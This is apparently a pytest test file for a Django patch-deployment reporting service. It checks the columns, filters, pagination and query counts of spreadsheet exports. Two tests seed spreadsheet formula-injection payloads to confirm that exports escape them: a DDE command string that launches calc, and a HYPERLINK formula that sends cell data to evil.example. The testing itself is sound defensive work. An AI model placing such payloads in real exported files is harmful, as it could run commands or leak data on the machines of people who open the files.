"""What the files say, section by section."""

from datetime import timedelta
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from inventory.models import Asset, Patch, Platform, Severity
from reports import sections
from reports.models import Report, ReportSection
from tests import factories
from tests.deployments.endings import STORY, does, patched
from tests.factories import NOW, Person
from tests.reports.files import asked, rows_of, write_all


def _every(section: ReportSection, platform: Platform = Platform.LINUX) -> list[str]:
    return [one.key for one in sections.SECTIONS[section].columns if one.fits(platform)]


def _of_job(run: Any) -> str:
    return f"deploymentjobprogress/{run.job.public_id}"


def test_hosts__one_done_and_one_waiting__are_told_with_their_counts(ada: Person) -> None:
    done, waiting = factories.asset(ada.customer, "a-done"), factories.asset(ada.customer, "b-waiting")
    run = patched(ada, done, waiting, name="patch them")
    does(done, STORY)

    first, second = rows_of(ada, _of_job(run), {"columns": _every(ReportSection.HOSTS)})

    assert (first["Job"], first["Run"], first["Asset ID"]) == ("patch them", "1", str(done.public_id))
    assert (first["Status"], first["Status code"], first["State"]) == ("Completed", "20360", "Succeeded")
    assert (first["Reason"], first["Start"], first["End"]) == (
        "verified",
        "2026-11-10T09:00:00Z",
        "2026-11-10T09:00:00Z",
    )
    assert first["Reason in words"].startswith("Everything was done")
    assert (first["Patches"], first["Patches: success"], first["Patches: pending"]) == ("1", "1", "0")
    assert first["Duration (seconds)"] == "0"
    assert (second["Asset"], second["Status"], second["Reason"]) == ("b-waiting", "Pending", "")
    assert (second["Patches"], second["Patches: pending"], second["End"]) == ("1", "1", "")
    assert second["Waits for a restart of another job"] == "false"


def test_hosts__by_query__are_those_that_it_finds(ada: Person) -> None:
    done, waiting = factories.asset(ada.customer), factories.asset(ada.customer)
    run = patched(ada, done, waiting)
    does(done, STORY)

    rows = rows_of(ada, _of_job(run), {"query": "status:Completed"})

    assert [row["Asset ID"] for row in rows] == [str(done.public_id)]


def test_hosts__of_all_runs_or_of_one__are_told_run_by_run(ada: Person) -> None:
    hosts = [factories.asset(ada.customer) for _ in range(2)]
    run = patched(ada, *hosts)
    other = patched(ada, hosts[0], packages=("other",))
    for host in hosts:
        does(host, STORY)

    both = rows_of(ada, _of_job(run))
    first = rows_of(ada, _of_job(run), {"jobInstanceId": 1})

    assert [(row["Run"], row["Asset ID"]) for row in both] == [("1", str(host.public_id)) for host in hosts]
    assert first == both
    assert [row["Asset ID"] for row in rows_of(ada, _of_job(other))] == [str(hosts[0].public_id)]


def test_hosts__of_a_job_that_never_ran__are_none(ada: Person) -> None:
    job = factories.job(ada)

    assert rows_of(ada, f"deploymentjobprogress/{job.public_id}") == []


def test_patches__each_on_each_host__are_told_with_their_results(ada: Person) -> None:
    hosts = [factories.asset(ada.customer) for _ in range(2)]
    run = patched(ada, *hosts)
    for host in hosts:
        does(host, STORY)

    rows = rows_of(ada, _of_job(run), {"reportSection": "patches", "columns": _every(ReportSection.PATCHES)})

    assert [row["Asset ID"] for row in rows] == [str(host.public_id) for host in hosts]
    assert {(row["Patch"], row["Package"], row["Status"]) for row in rows} == {("acme-app 2.0", "acme-app", "Success")}
    assert {row["Shown by the closing scan"] for row in rows} == {"true"}


def test_actions__of_a_host__are_told(ada: Person) -> None:
    host = factories.asset(ada.customer)
    run = patched(ada, host, preDeployActions=[factories.script("=cmd|' /C calc'!A0")])
    does(host, [])

    (row,) = rows_of(ada, _of_job(run), {"reportSection": "actions", "columns": _every(ReportSection.ACTIONS)})

    assert row["Action"] == "'=cmd|' /C calc'!A0"
    assert (row["Before or after the patches"], row["Status"], row["Exit code"]) == ("predeploy", "Pending", "")


def test_runs__ended_and_going__are_told_in_order_with_their_hosts(ada: Person) -> None:
    host, other = factories.asset(ada.customer), factories.asset(ada.customer)
    run = patched(ada, host, other, preDeployActions=[factories.script()])
    does(host, [])
    path = f"deploymentjobprogress/{run.job.public_id}"
    ada.post(f"deploymentjob/{run.job.public_id}/run")

    both = rows_of(ada, path, {"reportSection": "runs", "columns": _every(ReportSection.RUNS)})
    (first,) = rows_of(ada, path, {"reportSection": "runs", "jobInstanceId": 1})
    (found,) = rows_of(ada, path, {"reportSection": "runs", "query": "runStatus:Pending and trigger:user"})

    assert [(row["Run"], row["Trigger"], row["Run status"]) for row in both] == [
        ("1", "user", "Running"),
        ("2", "user", "Pending"),
    ]
    assert [(row["Hosts"], row["Hosts: completed"], row["Reason in words"]) for row in both] == [
        ("2", "0", ""),
        ("0", "0", ""),
    ]
    assert (first["Run"], found["Run"]) == ("1", "2")


def test_assets__in_every_column__are_told(ada: Person) -> None:
    tag, other = factories.tag(ada.customer, "web"), factories.tag(ada.customer, "berlin")
    host = factories.asset(ada.customer, "web-1", tags=(tag, other))
    factories.missing(factories.patch(ada.customer), host)
    interfaces = [{"address": "10.0.0.1", "macAddress": "aa:bb"}, {"address": None, "ipv6Address": "fe80::1"}]
    Asset.objects.update(interfaces=interfaces, hardware={"model": "@X1"}, last_contact_at=NOW - timedelta(days=365))

    (row,) = rows_of(ada, "assets", {"columns": _every(ReportSection.ASSETS)})

    assert (row["Name"], row["Number"], row["Platform"]) == ("web-1", "1", "Linux")
    assert row["Tags"] == "berlin, web"
    assert row["Addresses"] == "10.0.0.1, fe80::1"
    assert (row["Model"], row["Manufacturer"]) == ("'@X1", "")
    assert (row["Status"], row["Scan status"], row["Reboot required"]) == ("Inactive", "Scanned", "false")
    assert (row["Missing patches"], row["Installed patches"]) == ("1", "0")


def test_assets__by_platform_and_query__are_those_that_fit(ada: Person) -> None:
    factories.asset(ada.customer, "web-1")
    factories.asset(ada.customer, "web-2", platform=Platform.WINDOWS)
    factories.asset(ada.customer, "db-1", platform=Platform.WINDOWS)

    rows = rows_of(ada, "assets", {"platform": "Windows", "query": "name:web"})

    assert [row["Name"] for row in rows] == ["web-2"]


def test_missing_patches__are_told_with_asset_and_patch(ada: Person) -> None:
    host, other = factories.asset(ada.customer, "web-1"), factories.asset(ada.customer, "web-2")
    new, critical = factories.patch(ada.customer), factories.patch(ada.customer, "kernel")
    factories.missing(new, host)
    factories.installed(new, other)
    factories.missing(critical, other)
    Patch.objects.filter(pk=critical.pk).update(severity=Severity.CRITICAL, cves=["CVE-2026-1", "CVE-2026-2"])

    rows = rows_of(ada, "missingpatches", {"columns": _every(ReportSection.MISSING_PATCHES)})
    found = rows_of(ada, "missingpatches", {"query": "vendorSeverity:Critical"})

    assert [(row["Asset"], row["Patch"]) for row in rows] == [("web-1", "acme-app 2.0"), ("web-2", "kernel 2.0")]
    assert [row["CVEs"] for row in found] == ["CVE-2026-1, CVE-2026-2"]
    assert (rows[0]["Present version"], rows[0]["New version"], rows[0]["Superseded"]) == ("1.0", "2.0", "false")


def test_missing_patches__one_that_another_replaces__is_told_as_superseded(ada: Person) -> None:
    host = factories.asset(ada.customer)
    old, new = (factories.patch(ada.customer, version=version) for version in ("2.0", "3.0"))
    Patch.objects.filter(pk=old.pk).update(version_key=b"2")
    Patch.objects.filter(pk=new.pk).update(version_key=b"3")
    factories.missing(old, host)
    factories.missing(new, host)

    rows = rows_of(ada, "missingpatches", {"columns": ["patchTitle", "isSuperseded"]})

    assert {row["Patch"]: row["Superseded"] for row in rows} == {"acme-app 2.0": "true", "acme-app 3.0": "false"}


def test_file__with_formulas_in_names__runs_none_of_them(ada: Person) -> None:
    for name in ("=1+1", "+1", "-1", "@x", '=HYPERLINK("http://evil.example/?x="&A1,"x")'):
        factories.asset(ada.customer, name)

    rows = rows_of(ada, "assets", {"columns": ["name", "reportedName"]})

    assert len(rows) == 5
    assert all(value.startswith("'") for row in rows for value in row.values())


@pytest.mark.parametrize("page", [1, 2, 5])
@pytest.mark.parametrize("section", ["hosts", "patches"])
def test_file__of_several_pages__has_every_row_once(
    ada: Person, monkeypatch: pytest.MonkeyPatch, page: int, section: str
) -> None:
    for name in ("hosts.PAGE", "steps.PAGE", "steps._HOSTS"):
        monkeypatch.setattr(f"reports.sections.{name}", page)
    monkeypatch.setattr("reports.sections.hosts.tasks_by_page.__kwdefaults__", {"page": page})
    hosts = [factories.asset(ada.customer) for _ in range(5)]
    run = patched(ada, *hosts)
    for host in hosts[:4]:
        does(host, STORY)

    rows = rows_of(ada, _of_job(run), {"reportSection": section})

    told = hosts if section == "hosts" else hosts[:4]
    assert [row["Asset ID"] for row in rows] == [str(host.public_id) for host in told]


@pytest.mark.parametrize("path", ["assets", "missingpatches", "job"])
def test_write__of_more_rows__takes_no_more_queries(ada: Person, path: str) -> None:
    def queries(*names: str) -> int:
        hosts = [factories.asset(ada.customer, name) for name in names]
        run = patched(ada, *hosts, packages=(f"package-{names[0]}",))
        report = asked(ada, _of_job(run) if path == "job" else path)
        with CaptureQueriesContext(connection) as captured:
            write_all(ada)
        assert Report.objects.get(public_id=report["id"]).state == "Ready"
        return len(captured)

    assert queries("a") == queries("b", "c", "d")
